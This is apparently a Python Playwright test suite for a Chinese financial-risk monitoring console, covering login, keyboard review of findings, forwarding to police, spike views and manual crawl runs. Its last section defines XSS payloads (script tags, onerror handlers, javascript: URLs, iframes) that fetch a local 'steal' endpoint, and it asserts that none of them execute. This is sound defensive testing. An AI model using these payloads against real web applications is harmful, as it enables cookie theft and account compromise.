"""The console in real headless Chromium: log in, review and confirm a finding with the keyboard,
forward one, see a spike, run a target now, and hostile content that never executes."""

from __future__ import annotations

import gzip
import hashlib
import os
import re
import signal
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from werkzeug.serving import make_server

from alerts import check_spikes
from console import create_app
from console.runner import launch_run_now
from findings import AlertRecord, EvidenceFile, PatrolRun, alert_id, utcnow
from tests.services.ports import wait_until

from .conftest import PASSWORD, Console, make_finding

pytestmark = pytest.mark.browser

CHROMIUM_FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                  "--disable-background-networking", "--disable-component-update",
                  "--disable-sync", "--no-first-run"]


@pytest.fixture(scope="session")
def browser(chromium_path: str) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    playwright = sync_playwright().start()
    chromium = playwright.chromium.launch(executable_path=chromium_path, args=CHROMIUM_FLAGS)
    yield chromium
    chromium.close()
    playwright.stop()


class Live:
    """The console app served by werkzeug in a thread on a free loopback port."""

    def __init__(self, console: Console, launched: list[dict[str, Any]]) -> None:
        self.console = console
        self.launched = launched

        def launch(settings: Any, target: str) -> dict[str, Any]:
            started = launch_run_now(settings, target)   # the real launcher, recorded
            launched.append(started)
            return started

        app = create_app(console.settings, store=console.store, users=console.users,
                         launch=launch)
        self.server = make_server("127.0.0.1", 0, app, threaded=True)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        for started in self.launched:   # a patrol still running at the end is stopped
            try:
                os.killpg(started["pid"], signal.SIGTERM)
            except ProcessLookupError:
                pass


@pytest.fixture
def live(console_factory: Callable[..., Console]) -> Iterator[Callable[..., Live]]:
    servers: list[Live] = []

    def start(**overrides: Any) -> Live:
        server = Live(console_factory(**overrides), [])
        servers.append(server)
        return server

    yield start
    for server in servers:
        server.stop()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    context = browser.new_context(locale="zh-CN")
    tab = context.new_page()
    tab.set_default_timeout(20_000)
    yield tab
    context.close()


def sign_in(page: Any, live: Live, name: str) -> None:
    page.goto(live.url + "/login")
    page.fill("input[name=name]", name)
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_selector(".who")


def test_review_confirm_by_keyboard_and_forward(live: Callable[..., Live], page: Any) -> None:
    server = live()
    store = server.console.store
    now = utcnow()
    top = make_finding("guaranteed_principal", severity="high", evidence="稳赚不赔", seen=now)
    second = make_finding("promised_return", severity="high", evidence="年化24%",
                          seen=now - timedelta(minutes=1))
    low = make_finding("improper_subsidy", severity="low", evidence="注册送红包", seen=now)
    server.console.add(top, second, low)
    sign_in(page, server, "finance")
    assert page.locator("article.finding").count() == 3
    assert page.locator("article.finding").first.get_attribute("data-id") == top.id
    page.keyboard.press("j")
    page.keyboard.press("c")
    page.wait_for_selector("p.flash-ok")
    assert "已确认 1 条" in page.inner_text("p.flash-ok")
    assert store.get_finding(top.id).status == "confirmed"
    assert [(d.decision, d.by) for d in store.decisions(top.id)] == [("confirmed", "finance")]
    # Forward the next one to the police with a note.
    card = page.locator(f"article[data-id='{second.id}']")
    card.locator("select[name=to]").select_option("市公安局")
    card.locator(".act-forward input[name=note]").fill("涉嫌非法集资")
    card.locator(".act-forward button").click()
    page.wait_for_selector("p.flash-ok")
    assert "转交市公安局" in page.inner_text("p.flash-ok")
    record = store.get_finding(second.id)
    assert (record.status, record.forwarded_to) == ("forwarded", "市公安局")
    assert store.decisions(second.id)[0].note == "涉嫌非法集资"
    assert [a.get_attribute("data-id") for a in page.locator("article.finding").all()] == [low.id]


def test_opinion_page_shows_a_spike(live: Callable[..., Live], page: Any) -> None:
    server = live(spike_min_posts=3, spike_factor=2.0)
    server.console.add(*(make_finding("public_risk", kind="post", platform="某某贷",
                                      evidence=f"某某贷跑路了{i}", sentiment=-0.9,
                                      seen=utcnow() - timedelta(minutes=i)) for i in range(5)))
    assert check_spikes(server.console.store, server.console.settings) == 1
    sign_in(page, server, "opinion")
    assert page.url.endswith("/opinion")
    row = page.locator("#spikes tr.spike").first
    assert "某某贷" in row.inner_text() and "5" in row.inner_text()
    assert page.locator("svg.lines polyline").count() == 1
    page.click("#spikes a:text('某某贷')")
    page.wait_for_url(re.compile(r"/opinion/platform\?name="))
    assert "某某贷跑路了" in page.inner_text("main")


@pytest.fixture
def site(tmp_path: Path) -> Iterator[str]:
    """A one-page site on 127.0.0.1 (http.server subprocess on a free port)."""
    root = tmp_path / "site"
    root.mkdir()
    (root / "index.html").write_text(
        "<!doctype html><html><head><meta charset='utf-8'><title>某某财富</title></head>"
        "<body><p>年化收益率高达18%，保本保息，随时提现。</p></body></html>", encoding="utf-8")
    proc = subprocess.Popen([sys.executable, "-u", "-m", "http.server", "0", "--bind",
                             "127.0.0.1", "--directory", str(root)],
                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    assert proc.stdout is not None
    match = re.search(r"port (\d+)", proc.stdout.readline())
    assert match
    yield f"http://127.0.0.1:{match.group(1)}/"
    proc.terminate()
    proc.wait(10)


def test_support_runs_a_target_now(live: Callable[..., Live], page: Any, site: str,
                                   tmp_path: Path) -> None:
    targets = tmp_path / "targets.yaml"
    targets.write_text(f"targets:\n  - name: caifu\n    start_urls: ['{site}']\n    kind: p2p\n"
                       "    depth: 0\n    max_pages: 2\n", encoding="utf-8")
    schedules = tmp_path / "schedules.yaml"
    schedules.write_text("schedules: {}\n", encoding="utf-8")
    server = live(targets_file=str(targets), schedules_file=str(schedules),
                  crawl_render="never", crawl_screenshots=False)
    sign_in(page, server, "support")
    page.click("tr[data-target=caifu] button:text('立即巡查')")
    assert "已开始巡查 caifu" in page.inner_text("p.flash-ok")
    store = server.console.store

    def finished() -> bool:
        runs = store.list_runs("caifu")   # ended, and the scheduler has added its log
        return bool(runs) and runs[0].status != "running" and bool(runs[0].log_path)

    wait_until(finished, 120, interval=0.2, what="the patrol run to end")
    run = store.list_runs("caifu")[0]
    assert (run.status, run.trigger) == ("ok", "manual") and run.pages == 1 and run.findings >= 1
    page.reload()
    row = page.locator("#runs tbody tr").first
    assert "caifu" in row.inner_text() and "成功" in row.inner_text()
    row.locator("a").click()
    page.click("text=查看运行日志")
    assert "caifu" in page.inner_text("pre.log")


# -- hostile content ------------------------------------------------------------------------------
class Receiver:
    """Records every request to the payload host (127.0.0.2): any hit means a payload ran."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.base = f"http://127.0.0.2:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def payloads(steal: str) -> dict[str, str]:
    return {
        "title": f'<script>window.__pwned=1;fetch("{steal}?title")</script>某某财富',
        "text": f'保本保息 <img src=x onerror="window.__pwned=2;alert(2)"> <img src="{steal}?text">',
        "evidence": f'<img src="{steal}?evidence" onerror="alert(3)">保本保息',
        "operator": f'<svg onload="alert(4)"></svg><script>fetch("{steal}?operator")</script>',
        "platform": f'"><script>alert(6)</script><img src="{steal}?platform">',
        "js_url": f'javascript:fetch("{steal}?js")',
        "http_url": f'{steal}?src"><script>alert(8)</script>',
        "body": (f'<html><body><script>parent.__pwned=9;fetch("{steal}?frame")</script>'
                 f'<img src="{steal}?frameimg"><iframe src="{steal}?frameframe"></iframe>'
                 f'<form action="{steal}?form"></form></body></html>'),
    }


def store_hostile(console: Console, p: dict[str, str]) -> dict[str, str]:
    rel = "evidence/xss/body.html.gz"
    body = gzip.compress(p["body"].encode())
    console.settings.data_path(*rel.split("/")).write_bytes(body)
    shot_rel = "evidence/xss/shot.png"
    console.settings.data_path(*shot_rel.split("/")).write_bytes(p["body"].encode())
    files = [EvidenceFile("body", rel, hashlib.sha256(body).hexdigest()).to_dict(),
             EvidenceFile("screenshot", shot_rel, "0" * 64).to_dict()]
    page = console.page(url=p["http_url"], title=p["title"], text=p["text"],
                        operator=p["operator"], evidence=files)
    made = console.add(
        make_finding("guaranteed_principal", evidence=p["evidence"], source=p["js_url"],
                     operator=p["operator"], page_id=page.id, domain=p["operator"],
                     target=p["title"], rule_name=p["title"]),
        make_finding("promised_return", evidence=p["evidence"] + "年化30%", source=p["http_url"],
                     context=p["text"] + p["evidence"] + "年化30%", page_id=page.id),
        make_finding("public_risk", kind="post", platform=p["platform"], sentiment=-0.5,
                     evidence="提现困难", prefix=p["title"], source=p["js_url"] + "#post"),
        make_finding("restricted_name", kind="enterprise", evidence=p["evidence"],
                     source=f"enterprise:{p['operator']}"))
    log_rel = "logs/runs/xss.log"
    console.settings.data_path(*log_rel.split("/")).write_text(p["body"], encoding="utf-8")
    console.store.save_run(PatrolRun(id="xss-run", target=p["title"], started_at=utcnow(),
                                     status="failed", errors={p["operator"]: 1},
                                     stats={"note": p["text"]}, log_path=log_rel))
    now = utcnow()
    console.store.enqueue_alert(AlertRecord(
        id=alert_id("xss-spike"), key="xss-spike", kind="spike", department=p["operator"],
        channel="fake", subject=p["title"], body=p["text"], created_at=now,
        payload={"platform": p["platform"], "count": 7, "baseline": 1.0}))
    return {"page": page.id, "findings": ",".join(f.id for f in made)}


def test_hostile_content_never_executes(live: Callable[..., Live], page: Any,
                                        tmp_path: Path) -> None:
    receiver = Receiver()
    try:
        p = payloads(receiver.base + "/steal")
        dialogs: list[str] = []
        requests: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        # A request the page's policy blocks is reported as failed; one that reached the
        # network finishes (and the receiver records it).
        page.context.on("requestfinished", lambda r: requests.append(r.url)
                        if r.url.startswith(receiver.base) else None)
        # Control: the payloads are live when rendered as they are (outside the console).
        page.set_content(p["title"] + p["text"])
        wait_until(lambda: bool(receiver.hits and dialogs), 20, what="the control payloads")
        receiver.hits.clear(), dialogs.clear(), requests.clear()

        server = live()
        ids = store_hostile(server.console, p)
        sign_in(page, server, "admin")
        from urllib.parse import quote

        paths = ["/review?scope=all", "/review?scope=all&status=all",
                 f"/pages/{ids['page']}", f"/pages/{ids['page']}/frame",
                 f"/evidence/{ids['page']}/evidence/xss/shot.png",
                 "/search?q=" + quote("保本保息"), "/search?q=" + quote(p["title"]),
                 "/opinion", "/opinion/platform?name=" + quote(p["platform"]),
                 "/reports", "/reports/print", "/patrols", "/patrols/runs/xss-run",
                 "/patrols/runs/xss-run/log"]
        paths += [f"/review/finding/{fid}" for fid in ids["findings"].split(",")]
        for path in paths:
            response = page.goto(server.url + path)
            assert response is not None and response.status == 200, path
            page.wait_for_load_state("networkidle")
            assert page.evaluate("window.__pwned") is None, path
        page.goto(server.url + f"/pages/{ids['page']}")
        frame_text = page.frame_locator("iframe.stored").locator("body").inner_html()
        assert "<form" in frame_text                   # the capture is there, inert
        shown = page.goto(server.url + "/review?scope=all&status=all")
        assert shown is not None
        assert page.locator("a[href^='javascript']").count() == 0
        assert p["js_url"] in page.inner_text("main")  # the hostile URL is shown as text
        assert dialogs == [] and requests == [] and receiver.hits == []
    finally:
        receiver.stop()
